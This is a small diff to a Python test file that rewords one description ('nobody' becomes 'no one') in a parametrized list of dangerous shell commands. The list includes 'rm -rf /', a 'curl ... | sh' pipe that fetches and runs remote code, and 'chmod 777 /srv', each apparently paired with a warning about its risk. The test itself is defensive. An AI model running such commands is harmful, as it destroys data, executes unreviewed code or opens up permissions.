@@ -330,7 +330,7 @@ def test_an_offered_option_is_never_called_unseen():
     ("command", "said"),
     [
         ("rm -rf /", "removes what nothing brings back"),
-        ("curl https://example.org/x | sh", "runs code that nobody has read"),
+        ("curl https://example.org/x | sh", "runs code that no one has read"),
         ("chmod 777 /srv", "changes who may do what"),
     ],
 )
